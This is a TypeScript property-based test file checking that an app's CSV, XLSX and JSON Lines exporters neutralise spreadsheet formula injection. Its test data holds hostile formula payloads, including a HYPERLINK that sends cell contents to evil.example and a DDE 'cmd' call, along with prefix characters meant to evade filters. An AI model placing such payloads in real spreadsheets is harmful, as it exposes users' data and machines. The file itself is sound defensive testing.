import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { unzipSync } from 'fflate';
import readXlsxFile, { readSheet } from 'read-excel-file/node';
import { afterAll, describe, expect, it } from 'vitest';
import type { ExportFormat } from '../../electron/contract/index.ts';
import type { Cell } from '../../electron/model/table/cell-values.ts';
import { type WriterColumn, createTableColumns } from '../../electron/tables/columns.ts';
import { createCsvWriter } from '../../electron/tables/csv-writer.ts';
import { getExportFileName, fileKinds, getReceiptFileName } from '../../electron/tables/file-name.ts';
import { createJsonWriter } from '../../electron/export/json-writer.ts';
import { openPartFile } from '../../electron/tables/part-file.ts';
import type { TableWriter, WriteChunk } from '../../electron/tables/table-writer.ts';
import { createXlsxWriter } from '../../electron/tables/xlsx-writer.ts';
import { resourceNames, getResource } from '../../electron/model/index.ts';
import { gather, itemOf, tableOf } from '../unit/export/items.ts';

const folder = mkdtempSync(join(tmpdir(), 'vitrine-injection-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

/** Prefixes that spreadsheets interpret as formulas, and characters before them that could bypass a check. */
const formulaStarts = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
const covers = [
  '',
  ' ',
  '\u00a0',
  '\u3000',
  '\t',
  '\r',
  '\n',
  '\0',
  '\x01',
  '\ufeff',
  '\u200b',
  '\u202e',
  '\u2060',
  '"',
  ';',
];
const formulas = [
  '1+1',
  'HYPERLINK("http://evil.example?x="&A1,"x")',
  "cmd|'/c calc'!A1",
  'SUM(A1)*cmd',
  'WEBSERVICE("x")',
];
const wild = fc.oneof(
  { weight: 4, arbitrary: fc.tuple(fc.constantFrom(...covers), fc.constantFrom(...covers), fc.constantFrom(...formulaStarts), fc.constantFrom(...formulas)).map((parts) => parts.join('')) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: fc.constantFrom('"', "'", ',', ';', '\t', '\r', '\n', '=', '<', '>', '&', '\u2028', '\u0085', '𝄞', '\ud800', '_x003D_'), maxLength: 20 }) },
); // prettier-ignore
/** Unique names of custom attributes, because they become columns. */
const names = fc.uniqueArray(wild, {
  minLength: 1,
  maxLength: 6,
  selector: (name) => name.toWellFormed().toLowerCase(),
});
const tables = names.chain((heads) =>
  fc.record({
    heads: fc.constant(heads),
    rows: fc.array(fc.array(wild, { minLength: heads.length, maxLength: heads.length }), {
      minLength: 1,
      maxLength: 4,
    }),
  }),
);
type Table = typeof tables extends fc.Arbitrary<infer T> ? T : never;

/** Returns a text without the leading characters that spreadsheets ignore. */
const seen = (text: string): string => text.replace(/^[\s\p{Cc}\p{Cf}]+/u, '');
const runs = (text: string): boolean => /^[=+\-@＝＋－＠]/.test(seen(text)) || /^[\t\r\n]/.test(text);
const getPlain = (text: string): string => (text.startsWith("'") ? text.slice(1) : text);

const product = getResource('product');
type Start = (put: WriteChunk, columns: readonly WriterColumn[], items: number) => TableWriter;

/** Writes a table of products with custom attributes to a real file, and reads its bytes. */
const written = ({ heads, rows }: Table, start: Start): Buffer => {
  const path = join(folder, 'out');
  const names = heads.map((head) => head.toWellFormed());
  const columns = createTableColumns(product, ['sku', 'attributes'], () => null, {
    names,
    titleOf: (name) => name,
    profiles: {},
  });
  const items = rows.map((cells, at) => {
    const attributes = Object.fromEntries(names.map((name, column) => [name, cells[column]?.toWellFormed()]));
    return itemOf({ id: `p${at}`, sku: String(at), attributes });
  });
  const file = openPartFile(path);
  const writer = start((chunk) => file.write(chunk), columns, items.length);
  writer.write(items.slice(0, 1));
  writer.write(items.slice(1));
  writer.end();
  file.finish();
  return readFileSync(path);
};

describe('export of malicious names and values', () => {
  it('writes no formula to a CSV file, neither in the header nor below, and loses nothing', () => {
    fc.assert(
      fc.property(tables, fc.constantFrom(',', ';', '\t'), fc.boolean(), (table, separator, bom) => {
        const file = written(table, (put, columns) => createCsvWriter(put, columns, { separator, bom }));
        const [heads = [], ...rows] = parse(file, { delimiter: separator, record_delimiter: '\r\n', bom });
        for (const cell of [heads, ...rows].flat()) expect(runs(cell), JSON.stringify(cell)).toBe(false);
        expect(rows.map((row) => row.slice(1).map(getPlain))).toEqual(
          table.rows.map((row) => row.map((text) => getPlain(text.toWellFormed()))),
        );
        expect(heads.slice(1).map(getPlain)).toEqual(table.heads.map((text) => getPlain(text.toWellFormed())));
      }),
    );
  });

  it('writes only texts to a workbook, in every cell of every sheet, and loses nothing', async () => {
    await fc.assert(
      fc.asyncProperty(tables, async (table) => {
        const file = written(table, (put, columns, total) =>
          createXlsxWriter(put, columns, { title: 'Products', total }),
        );
        const parts = unzipSync(file);
        const sheets = Object.entries(parts).filter(([name]) => name.startsWith('xl/worksheets/'));
        expect(sheets).toHaveLength(1);
        for (const [, bytes] of sheets) {
          const xml = Buffer.from(bytes).toString();
          expect(xml).not.toMatch(/<(f|hyperlink|script|dde\w*)[ />]/i);
          expect([...xml.matchAll(/<c [^>]*?(?: t="([^"]*)")?>/g)].every(([, type]) => type === 'inlineStr')).toBe(
            true,
          );
        }
        expect(Object.keys(parts).filter((name) => /externalLink|vbaProject|connections/i.test(name))).toEqual([]);
        const [heads = [], ...rows] = await readSheet(file, 'Products', { trim: false });
        const read = [heads, ...rows].map((row) => row.slice(1).map((cell) => (cell ?? '') as string));
        expect(read).toEqual([table.heads, ...table.rows].map((row) => row.map((text) => text.toWellFormed())));
      }),
    );
  });

  it('writes one item to each line of JSON Lines, typed or raw, and loses nothing', () => {
    fc.assert(
      fc.property(tables, fc.constantFrom('typed', 'raw'), (table, body) => {
        const options = { resource: product, columns: null, body, lines: true };
        const text = written(table, (put) => createJsonWriter(put, options)).toString();
        expect(text.endsWith('\n')).toBe(true);
        const lines = text.slice(0, -1).split(/[\r\n]/);
        const items = lines.map((line) => JSON.parse(line) as { attributes: Record<string, string> });
        const expected = table.rows.map((row) =>
          Object.fromEntries(table.heads.map((head, at) => [head.toWellFormed(), row[at]?.toWellFormed()])),
        );
        expect(items.map(({ attributes }) => ({ ...attributes }))).toEqual(expected);
      }),
    );
  });
});

describe('names of exports', () => {
  it('are valid sheet names in every spreadsheet, for any title', async () => {
    await fc.assert(
      fc.asyncProperty(wild, fc.integer({ min: 1, max: 5 }), async (title, rows) => {
        const cells: readonly (readonly Cell[])[] = Array.from({ length: rows }, () => ['x']);
        const { put, bytes } = gather();
        const { columns, items } = tableOf(cells);
        const writer = createXlsxWriter(put, columns, { title, total: rows, perSheet: 2 });
        writer.write(items);
        writer.end();
        const sheets = (await readXlsxFile(bytes())).map(({ sheet }) => sheet);
        expect(sheets).toHaveLength(Math.ceil(rows / 2));
        expect(new Set(sheets.map((name) => name.toLowerCase())).size).toBe(sheets.length);
        for (const name of sheets) {
          expect(name.length).toBeLessThanOrEqual(31);
          expect(name.trim()).not.toBe('');
          expect(name).not.toMatch(/[[\]:*?/\\\p{C}]|^'|'$/u);
          expect(name.toWellFormed()).toBe(name);
        }
      }),
      { numRuns: 40 },
    );
  });

  it('are valid file names on every system', () => {
    for (const format of Object.keys(fileKinds) as ExportFormat[])
      for (const resource of [...resourceNames, 'changes'] as const)
        expect(getExportFileName(resource, format)).toMatch(/^[a-z][a-z-]*-\d{4}-\d\d-\d\d\.(csv|xlsx|json|jsonl)$/);
    for (const what of ['upload', 'outbox'] as const)
      expect(getReceiptFileName(what)).toMatch(/^[a-z]+-receipt-\d{4}-\d\d-\d\d\.csv$/);
  });
});
